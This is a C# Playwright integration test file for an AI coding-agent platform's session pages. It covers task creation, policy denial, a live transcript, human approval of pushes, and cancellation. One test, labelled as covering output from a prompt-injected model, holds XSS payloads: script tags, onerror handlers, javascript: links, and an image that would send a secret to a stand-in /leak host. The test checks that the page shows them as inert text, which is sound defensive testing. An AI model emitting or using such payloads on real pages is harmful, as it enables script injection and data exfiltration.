using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using Warden.Client.Contracts;
using Warden.Data.Sessions;
using Warden.Server.Policy;
using Warden.Server.Sessions;

namespace Warden.IntegrationTests;

/// <summary>
/// The agent session pages in Chromium: the list, the new-task form, and a session's page with its live transcript,
/// approvals, messages and cancel. The server's runner is off (<see cref="SessionRunnerOptions.Enabled"/>), so the
/// tests write transcripts through the store the way the runner does, and nothing else touches the sessions.
/// </summary>
public sealed class SessionPagesTests(BrowserFixture browser) : IClassFixture<BrowserFixture>
{
    private const string Org = "default";
    private static readonly LocatorAssertionsToContainTextOptions LiveText = new() { Timeout = 15_000 };

    [Fact]
    public async Task ListAndNewTaskForm_ShowClearErrorsForBadInput_AndStartATask()
    {
        await using var server = await StartAsync();
        using var admin = server.Client();
        await admin.PutRepositoryAsync(Org, "acme/api", new PutRepositoryRequest("https://git.invalid/acme/api.git", DefaultBranch: "main"));
        await admin.PutRepositoryAsync(Org, "acme/locked", new PutRepositoryRequest("https://git.invalid/acme/locked.git", DefaultBranch: "main"));
        await admin.PutRepositoryAsync(Org, "acme/web", new PutRepositoryRequest("https://git.invalid/acme/web.git", DefaultBranch: "trunk"));
        var files = new Dictionary<string, string>(PolicyBundle.Default.Files)
        {
            ["locked.cedar"] = "@id(\"no-agents-on-locked\")\nforbid (principal, action == Warden::Action::\"task.create\", resource == Warden::Repo::\"acme/locked\");\n",
        };
        await admin.PushPoliciesAsync(Org, new PushPolicyRequest(files, "lock acme/locked"));
        var page = await browser.NewPageAsync(server);
        await BrowserSupport.SignInWithTokenAsync(page, server.AdminToken);

        await page.GetByRole(AriaRole.Link, new() { Name = "Sessions", Exact = true }).ClickAsync();
        await page.WaitForURLAsync("**/o/default/sessions");
        (await page.GetByTestId("no-sessions").InnerTextAsync()).ShouldContain("No sessions yet");
        await page.GetByTestId("new-task").ClickAsync();
        await page.WaitForURLAsync("**/o/default/sessions/new");

        // An unknown repository: the form says so and keeps what was typed.
        await page.GetByTestId("task-repo").FillAsync("acme/nope");
        await page.GetByTestId("task-instruction").FillAsync("Add a health endpoint");
        var response = await SubmitAsync(page, "task-start");
        response.Status.ShouldBe(400);
        await ExpectAsync(page.Locator(".banner.error"), "Repository 'acme/nope' was not found");
        (await page.GetByTestId("task-instruction").InputValueAsync()).ShouldBe("Add a health endpoint");

        // No instruction.
        await page.GetByTestId("task-repo").FillAsync("acme/api");
        await page.GetByTestId("task-instruction").FillAsync("   ");
        await page.GetByTestId("task-start").ClickAsync();
        await ExpectAsync(page.Locator(".banner.error"), "The instruction is empty");

        // A limit out of range.
        await page.GetByTestId("task-instruction").FillAsync("Add a health endpoint");
        await page.Locator("details summary").ClickAsync();
        await page.GetByTestId("task-max-steps").FillAsync("0");
        await page.GetByTestId("task-start").ClickAsync();
        await ExpectAsync(page.Locator(".banner.error"), "maxSteps must be between 1 and 1000");

        // Policy says no, naming the policy; the denial is audited.
        await page.GetByTestId("task-repo").FillAsync("acme/locked");
        await page.GetByTestId("task-max-steps").FillAsync("7");
        response = await SubmitAsync(page, "task-start");
        response.Status.ShouldBe(403);
        await ExpectAsync(page.Locator(".banner.error"), "Policy does not let you start an agent on this repository");
        await ExpectAsync(page.Locator(".banner.error"), "no-agents-on-locked");
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(AppContext.BaseDirectory, "ui-session-new-denied.png"), FullPage = true });
        (await admin.ListSessionsAsync(Org)).ShouldBeEmpty();

        // Good input starts the task and opens its page.
        await page.GetByTestId("task-repo").FillAsync("acme/api");
        await page.GetByTestId("task-base").FillAsync("develop");
        await page.GetByTestId("task-start").ClickAsync();
        await page.WaitForURLAsync("**/o/default/sessions/ses_*");
        var header = await page.GetByTestId("session-header").InnerTextAsync();
        header.ShouldContain("queued");
        header.ShouldContain("acme/api");
        header.ShouldContain("develop");
        header.ShouldContain("0 / 7");
        (await page.GetByTestId("session-instruction").InnerTextAsync()).ShouldBe("Add a health endpoint");
        var created = (await admin.ListSessionsAsync(Org)).ShouldHaveSingleItem();
        page.Url.ShouldEndWith("/sessions/" + created.Id);
        created.MaxSteps.ShouldBe(7);
        created.Base.ShouldBe("develop");

        // The list, and its filters.
        await admin.CreateSessionAsync(Org, new CreateSessionRequest("acme/web", "Fix the flaky login test"));
        await page.GetByRole(AriaRole.Link, new() { Name = "Sessions", Exact = true }).ClickAsync();
        var rows = page.GetByTestId("sessions").Locator("tbody tr");
        (await rows.CountAsync()).ShouldBe(2);
        var row = await page.Locator($"tr[data-session={created.Id}]").InnerTextAsync();
        row.ShouldContain("queued");
        row.ShouldContain("acme/api");
        row.ShouldContain("admin");
        row.ShouldContain("Add a health endpoint");
        row.ShouldContain("0 / 7");
        row.ShouldContain("$0.00");
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(AppContext.BaseDirectory, "ui-sessions.png"), FullPage = true });

        await page.GetByTestId("filter-repo").FillAsync("acme/web");
        await page.GetByTestId("filter-apply").ClickAsync();
        await page.WaitForURLAsync(url => url.Contains("repo=acme%2Fweb", StringComparison.Ordinal));
        (await rows.CountAsync()).ShouldBe(1);
        (await rows.First.InnerTextAsync()).ShouldContain("Fix the flaky login test");
        await page.GetByTestId("filter-state").SelectOptionAsync("running");
        await page.GetByTestId("filter-apply").ClickAsync();
        await page.WaitForURLAsync(url => url.Contains("state=running", StringComparison.Ordinal));
        (await rows.CountAsync()).ShouldBe(0);
        (await page.GetByTestId("no-sessions").InnerTextAsync()).ShouldContain("No session matches");

        await page.GotoAsync("o/default/sessions?state=queued");
        (await rows.CountAsync()).ShouldBe(2);
        await page.GetByTestId("session-link").Filter(new() { HasText = "Add a health endpoint" }).ClickAsync();
        await page.WaitForURLAsync("**/sessions/" + created.Id);
    }

    [Fact]
    public async Task SessionPage_ShowsTheTranscript_AddsEntriesLive_AndApprovesSendsAndCancelsFromThePage()
    {
        await using var server = await StartAsync();
        var session = await NewSessionAsync(server, "Make the tests pass");
        var store = server.Host.App.Services.GetRequiredService<AgentSessionStore>();
        var live = server.Host.App.Services.GetRequiredService<SessionLive>();
        await store.AppendAsync(session.Id, SessionEventKinds.Status, new JsonObject { ["text"] = "Started." }.ToJsonString(),
            new SessionProgress { State = SessionStates.Running, WorkerName = "box-1" });
        await store.AppendAsync(session.Id, SessionEventKinds.Task, new JsonObject
        {
            ["system"] = "You are a careful engineer.", ["instruction"] = "Make the tests pass", ["instructionFiles"] = new JsonArray("AGENTS.md"), ["tools"] = new JsonArray("shell.exec", "file.read"),
        }.ToJsonString());
        await store.AppendAsync(session.Id, SessionEventKinds.Assistant, Assistant("I will **look** at the failing tests first.", ("call_1", "shell.exec", "{\"command\":\"dotnet test\"}")),
            new SessionProgress { AddSteps = 1, AddCostMicros = 12_000, AddInputTokens = 1200, AddOutputTokens = 80 });
        await store.AppendAsync(session.Id, SessionEventKinds.ToolResult, ToolResult("call_1", "wc_1", "shell.exec", "{\"command\":\"dotnet test\"}", "Failed: 1, Passed: 11"));

        var page = await browser.NewPageAsync(server);
        await BrowserSupport.SignInWithTokenAsync(page, server.AdminToken);
        await page.GotoAsync($"o/default/sessions/{session.Id}");
        var header = page.GetByTestId("session-header");
        (await header.InnerTextAsync()).ShouldContain("running");
        (await header.InnerTextAsync()).ShouldContain("box-1");
        (await header.InnerTextAsync()).ShouldContain("1 / 50");
        var transcript = page.GetByTestId("transcript");
        var text = await transcript.InnerTextAsync();
        text.ShouldContain("Started.");
        text.ShouldContain("Make the tests pass");
        text.ShouldContain("shell.exec");
        text.ShouldContain("dotnet test");
        text.ShouldContain("Failed: 1, Passed: 11");
        (await transcript.Locator("[data-testid=assistant-text] strong").InnerTextAsync()).ShouldBe("look");

        // While the page is open: the agent's next turn, a running call's output, then its result, and the header's counts.
        await store.AppendAsync(session.Id, SessionEventKinds.Assistant, Assistant("The date parser drops the *time zone*; fixing it.", ("call_2", "file.write", "{\"path\":\"src/Dates.cs\"}")),
            new SessionProgress { AddSteps = 1, AddCostMicros = 30_000, AddInputTokens = 2000, AddOutputTokens = 150 });
        await Assertions.Expect(transcript).ToContainTextAsync("fixing it.", LiveText);
        (await transcript.Locator("[data-testid=assistant-text] em").Last.InnerTextAsync()).ShouldBe("time zone");
        await Assertions.Expect(header).ToContainTextAsync("2 / 50", LiveText);
        await Assertions.Expect(header).ToContainTextAsync("$0.042", LiveText);
        live.Output(session.Id, "wc_3", "stdout", "Building Warden.Dates...\n");
        await Assertions.Expect(page.GetByTestId("live-output")).ToContainTextAsync("Building Warden.Dates...", LiveText);
        await store.AppendAsync(session.Id, SessionEventKinds.ToolResult, ToolResult("call_3", "wc_3", "shell.exec", "{\"command\":\"dotnet build\"}", "Build succeeded."));
        await Assertions.Expect(transcript).ToContainTextAsync("Build succeeded.", LiveText);
        await Assertions.Expect(page.GetByTestId("live-output")).Not.ToContainTextAsync("Building Warden.Dates", LiveText);

        // An approval arrives while the page is open; the admin approves it from the page.
        var stored = await store.LoadAsync(session.Id);
        var approval = await store.RequestApprovalAsync(stored!, "wc_4", "git.push", "Warden::Branch::\"warden/x\"", "push 2 files to warden/x", ["push-needs-approval"]);
        await store.AppendAsync(session.Id, SessionEventKinds.Approval, new JsonObject
        {
            ["approval"] = approval.Id, ["callId"] = "wc_4", ["action"] = "git.push", ["resource"] = "Warden::Branch::\"warden/x\"", ["summary"] = "push 2 files to warden/x",
            ["state"] = "pending", ["policies"] = new JsonArray("push-needs-approval"),
        }.ToJsonString(), new SessionProgress { State = SessionStates.Waiting, StateReason = "waiting for approval of push 2 files to warden/x" });
        var pending = page.GetByTestId("pending-approvals");
        await Assertions.Expect(pending).ToContainTextAsync("push 2 files to warden/x", LiveText);
        await Assertions.Expect(header).ToContainTextAsync("waiting for approval", LiveText);
        await Assertions.Expect(transcript).ToContainTextAsync("Approval needed for push 2 files to warden/x", LiveText);
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(AppContext.BaseDirectory, "ui-session-waiting.png"), FullPage = true });

        await pending.GetByTestId("approval-comment").FillAsync("two files, fine");
        await page.GetByTestId("approve").ClickAsync();
        await ExpectAsync(page.GetByTestId("session-notice"), "Approved");
        (await store.ApprovalForCallAsync(session.Id, "wc_4"))!.State.ShouldBe("approved");
        var decided = await page.GetByTestId("decided-approvals").InnerTextAsync();
        decided.ShouldContain("approved");
        decided.ShouldContain("admin");
        decided.ShouldContain("two files, fine");
        (await page.GetByTestId("pending-approvals").CountAsync()).ShouldBe(0);
        (await page.GetByTestId("session-audit").InnerTextAsync()).ShouldContain("approval.approve");

        // Deciding it again (the form posted twice) is refused with the reason.
        var antiforgery = await page.Locator("input[name=__RequestVerificationToken]").First.InputValueAsync();
        var again = await page.APIRequest.PostAsync($"o/default/sessions/{session.Id}", new APIRequestContextOptions
        {
            Form = page.APIRequest.CreateFormData().Set("__RequestVerificationToken", antiforgery).Set("_handler", $"decide-{approval.Id}")
                .Set("Decision.ApprovalId", approval.Id).Set("Decision.Verdict", "reject"),
        });
        again.Status.ShouldBe(400);

        // A message into the running session, for the agent's next step.
        await page.GetByTestId("message-text").FillAsync("Please also update the changelog.");
        await page.GetByTestId("message-send").ClickAsync();
        await ExpectAsync(page.GetByTestId("session-notice"), "Message sent");
        (await store.TakeInboxAsync(session.Id)).ShouldHaveSingleItem().Text.ShouldBe("Please also update the changelog.");
        (await page.GetByTestId("session-audit").InnerTextAsync()).ShouldContain("session.message");
        await page.GetByTestId("message-send").ClickAsync();
        await ExpectAsync(page.Locator(".banner.error"), "A message must hold 1 to 16,000 characters");

        // Cancel: the session ends, the controls go, and a retry is offered.
        await page.GetByTestId("cancel-reason").FillAsync("done here");
        await page.GetByTestId("cancel").ClickAsync();
        await ExpectAsync(page.GetByTestId("session-state"), "cancelled");
        (await page.GetByTestId("session-reason").InnerTextAsync()).ShouldBe("cancelled by admin: done here");
        (await page.GetByTestId("cancel").CountAsync()).ShouldBe(0);
        (await page.GetByTestId("message-send").CountAsync()).ShouldBe(0);
        (await page.GetByTestId("retry").CountAsync()).ShouldBe(1);
        (await page.GetByTestId("session-audit").InnerTextAsync()).ShouldContain("session.cancel");
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(AppContext.BaseDirectory, "ui-session-cancelled.png"), FullPage = true });
    }

    [Fact]
    public async Task ModelAuthoredHtml_IsShownAsText_AndNothingRunsOrLoads()
    {
        await using var server = await StartAsync();
        var session = await NewSessionAsync(server, "Summarise the README");
        var store = server.Host.App.Services.GetRequiredService<AgentSessionStore>();
        await store.UpdateAsync(session.Id, new SessionProgress { State = SessionStates.Running });
        await store.AppendAsync(session.Id, SessionEventKinds.Assistant, Assistant(Hostile("page"), ("call_1", "shell.exec", "{\"command\":\"echo '<script>window.__pwned=\\\"args\\\"</script>'\"}")));
        await store.AppendAsync(session.Id, SessionEventKinds.ToolResult, ToolResult("call_1", "wc_1", "shell.exec", "{}", "<script>window.__pwned='tool'</script><img src=x onerror=\"window.__pwned='tool-img'\">"));

        var page = await browser.NewPageAsync(server);
        var fetched = new List<string>();
        page.Request += (_, request) => fetched.Add(request.Url);
        await BrowserSupport.SignInWithTokenAsync(page, server.AdminToken);
        var response = await page.GotoAsync($"o/default/sessions/{session.Id}");
        (await response!.HeaderValueAsync("content-security-policy")).ShouldNotBeNull().ShouldContain("script-src 'self'");
        var transcript = page.GetByTestId("transcript");
        await AssertInertAsync(page, transcript, "page");
        (await transcript.InnerTextAsync()).ShouldContain("<script>window.__pwned='tool'</script>");

        // The same through the live path: entries swapped in while the page is open are just as inert.
        await store.AppendAsync(session.Id, SessionEventKinds.Assistant, Assistant(Hostile("live")));
        await Assertions.Expect(transcript).ToContainTextAsync("marker-live", LiveText);
        await AssertInertAsync(page, transcript, "live");
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(AppContext.BaseDirectory, "ui-session-inert.png"), FullPage = true });
        fetched.ShouldNotContain(u => u.Contains("/leak", StringComparison.Ordinal) || u.Contains("127.0.0.9", StringComparison.Ordinal));
    }

    [Fact]
    public async Task FinishedSession_ShowsItsDiffSummaryAndPullRequest_AndOffersARetry()
    {
        await using var server = await StartAsync();
        var session = await NewSessionAsync(server, "Add a changelog entry");
        var store = server.Host.App.Services.GetRequiredService<AgentSessionStore>();
        const string Diff = "diff --git a/CHANGELOG.md b/CHANGELOG.md\n--- a/CHANGELOG.md\n+++ b/CHANGELOG.md\n@@ -1,2 +1,3 @@\n # Changes\n+- Health endpoint\n-- Nothing yet\n";
        await store.UpdateAsync(session.Id, new SessionProgress { State = SessionStates.Running, BaseCommit = "0123456789abcdef0123" });
        await store.AppendAsync(session.Id, SessionEventKinds.Finish, new JsonObject
        {
            ["state"] = "succeeded", ["reason"] = "Published branch warden/x and opened a pull request.", ["branch"] = "warden/x", ["commit"] = "fedcba9876543210",
            ["pullRequest"] = "https://git.invalid/acme/api/pull/7", ["diff"] = Diff, ["stat"] = " CHANGELOG.md | 2 +-\n 1 file changed", ["truncated"] = false,
        }.ToJsonString(), new SessionProgress
        {
            State = SessionStates.Succeeded, StateReason = "finished", Branch = "warden/x", CommitSha = "fedcba9876543210",
            PrUrl = "https://git.invalid/acme/api/pull/7", Summary = "Added the **health endpoint** entry.",
        });

        var page = await browser.NewPageAsync(server);
        await BrowserSupport.SignInWithTokenAsync(page, server.AdminToken);
        await page.GotoAsync($"o/default/sessions/{session.Id}");
        (await page.GetByTestId("session-state").InnerTextAsync()).ShouldBe("succeeded");
        (await page.GetByTestId("session-pr").GetAttributeAsync("href")).ShouldBe("https://git.invalid/acme/api/pull/7");
        (await page.GetByTestId("session-summary").Locator("strong").InnerTextAsync()).ShouldBe("health endpoint");
        var diff = page.GetByTestId("diff");
        (await diff.Locator("span.add").InnerTextAsync()).ShouldBe("+- Health endpoint");
        (await diff.Locator("span.del").InnerTextAsync()).ShouldBe("-- Nothing yet");
        (await diff.Locator("span.file").InnerTextAsync()).ShouldContain("CHANGELOG.md");
        (await page.GetByTestId("session-diff").InnerTextAsync()).ShouldContain("Taken when the session finished");
        (await page.GetByTestId("transcript").InnerTextAsync()).ShouldContain("Published branch warden/x");
        (await page.GetByTestId("cancel").CountAsync()).ShouldBe(0);
        (await page.GetByTestId("session-follow").IsDisabledAsync()).ShouldBeTrue();
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(AppContext.BaseDirectory, "ui-session-finished.png"), FullPage = true });

        // Retry starts a new queued session with the same task and opens it.
        await page.GetByTestId("retry").ClickAsync();
        await page.WaitForURLAsync(url => url.Contains("/sessions/ses_", StringComparison.Ordinal) && !url.EndsWith(session.Id, StringComparison.Ordinal));
        (await page.GetByTestId("session-state").InnerTextAsync()).ShouldBe("queued");
        (await page.GetByTestId("session-header").InnerTextAsync()).ShouldContain("Retry of");
    }

    [Fact]
    public async Task MissingSessions_AndOtherMembersSessions_AreNotFound()
    {
        await using var server = await StartAsync();
        using var admin = server.Client();
        var adminSession = await NewSessionAsync(server, "Admin's own task");
        await admin.CreateUserAsync(Org, new CreateUserRequest("mia", Role: "member", Password: "member password 1"));
        var page = await browser.NewPageAsync(server);
        await BrowserSupport.SignInWithPasswordAsync(page, "mia", "member password 1");

        var missing = await page.GotoAsync("o/default/sessions/ses_nothing_here");
        missing!.Status.ShouldBe(404);
        await ExpectAsync(page.Locator(".banner.error"), "Session 'ses_nothing_here' was not found");

        // A member sees only their own sessions: another's is not found, on the page and in its live parts.
        var foreign = await page.GotoAsync($"o/default/sessions/{adminSession.Id}");
        foreign!.Status.ShouldBe(404);
        await ExpectAsync(page.Locator(".banner.error"), $"Session '{adminSession.Id}' was not found");
        (await page.APIRequest.GetAsync($"o/default/sessions/{adminSession.Id}/live")).Status.ShouldBe(404);

        // Mia starts her own from the form; the list shows it and not the admin's, and her page has no approve buttons
        // or audit trail (those are for owners and admins).
        await page.GotoAsync("o/default/sessions/new");
        await page.GetByTestId("task-repo").FillAsync("acme/api");
        await page.GetByTestId("task-instruction").FillAsync("Mia's task");
        await page.GetByTestId("task-start").ClickAsync();
        await page.WaitForURLAsync("**/o/default/sessions/ses_*");
        (await page.GetByTestId("session-audit").InnerTextAsync()).ShouldContain("for the org's owners, admins and auditors");
        await page.GotoAsync("o/default/sessions");
        var list = await page.GetByTestId("sessions").InnerTextAsync();
        list.ShouldContain("Mia's task");
        list.ShouldNotContain("Admin's own task");
    }

    private static Task<TestServer> StartAsync() =>
        TestServer.StartAsync("sqlite", o => o with { Sessions = o.Sessions with { Enabled = false } });

    private static async Task<SessionDto> NewSessionAsync(TestServer server, string instruction)
    {
        using var admin = server.Client();
        await admin.PutRepositoryAsync(Org, "acme/api", new PutRepositoryRequest("https://git.invalid/acme/api.git", DefaultBranch: "main"));
        return await admin.CreateSessionAsync(Org, new CreateSessionRequest("acme/api", instruction));
    }

    // Clicks a submit button and returns the response to the form's POST.
    private static Task<IResponse> SubmitAsync(IPage page, string button) =>
        page.RunAndWaitForResponseAsync(() => page.GetByTestId(button).ClickAsync(), r => r.Request.Method == "POST");

    // Waits for the text (the page may still be the one before a form's post).
    private static Task ExpectAsync(ILocator locator, string text) => Assertions.Expect(locator).ToContainTextAsync(text, LiveText);

    // What a prompt-injected model might write: script, event handlers, script URLs, and an image that would carry data out.
    private static string Hostile(string marker) =>
        $"marker-{marker}: <script>window.__pwned='{marker}-script'</script> <img src=x onerror=\"window.__pwned='{marker}-img'\">\n\n" +
        $"<iframe src=\"javascript:window.__pwned='{marker}-frame'\"></iframe>\n\n" +
        $"[click me](javascript:window.__pwned='{marker}-link') [also](JaVaScRiPt:alert(1)) ![tracker](http://127.0.0.9/leak?secret={marker}) " +
        $"<a href=\"javascript:alert(1)\" onclick=\"window.__pwned='{marker}-a'\">raw link</a>";

    private static async Task AssertInertAsync(IPage page, ILocator transcript, string marker)
    {
        (await page.EvaluateAsync<bool>("() => window.__pwned === undefined")).ShouldBeTrue();
        (await transcript.Locator("script, img, iframe, [onerror], [onclick]").CountAsync()).ShouldBe(0);
        (await transcript.Locator("a[href^='javascript' i]").CountAsync()).ShouldBe(0);
        var text = await transcript.InnerTextAsync();
        text.ShouldContain($"<script>window.__pwned='{marker}-script'</script>");
        text.ShouldContain("<img src=x onerror=");
        var tracker = transcript.Locator("a.image-link").Filter(new() { HasText = "tracker" }).Last;
        (await tracker.GetAttributeAsync("href")).ShouldBe($"http://127.0.0.9/leak?secret={marker}");
        (await tracker.GetAttributeAsync("rel")).ShouldBe("nofollow noopener noreferrer");
    }

    private static string Assistant(string text, params (string Id, string Name, string Arguments)[] calls)
    {
        var message = new JsonObject { ["role"] = "assistant", ["content"] = text };
        if (calls.Length > 0)
        {
            message["tool_calls"] = new JsonArray(calls.Select(c => (JsonNode?)new JsonObject
            {
                ["id"] = c.Id, ["type"] = "function", ["function"] = new JsonObject { ["name"] = c.Name, ["arguments"] = c.Arguments },
            }).ToArray());
        }

        return new JsonObject
        {
            ["message"] = message, ["finishReason"] = calls.Length > 0 ? "tool_calls" : "stop", ["inputTokens"] = 1000, ["outputTokens"] = 50,
            ["costMicros"] = 10_000, ["gatewayCall"] = "mc_1", ["model"] = "scripted-gpt",
        }.ToJsonString();
    }

    private static string ToolResult(string toolCallId, string callId, string tool, string arguments, string output) => new JsonObject
    {
        ["toolCallId"] = toolCallId, ["callId"] = callId, ["tool"] = tool, ["arguments"] = arguments, ["status"] = "ok", ["forModel"] = output,
        ["exitCode"] = 0, ["durationMs"] = 1234, ["output"] = output, ["truncated"] = false,
    }.ToJsonString();
}
